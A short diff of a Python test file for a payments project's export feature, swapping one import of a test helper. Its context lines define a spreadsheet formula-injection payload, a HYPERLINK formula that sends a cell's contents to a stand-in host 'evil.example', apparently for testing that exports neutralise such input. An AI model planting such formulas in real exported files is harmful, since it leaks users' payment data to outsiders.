@@ -18,7 +18,7 @@ from kassa_common.models import Merchant, Payment
 from kassa_common.owner import Owner
 from kassa_common.payments.export import COLUMNS
 from kassa_common.timefmt import utcnow
-from tests.integration.web.test_dashboard_manage import dash, post  # noqa: F401 - fixtures
+from tests.support.dashboard import post
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 HOSTILE = {
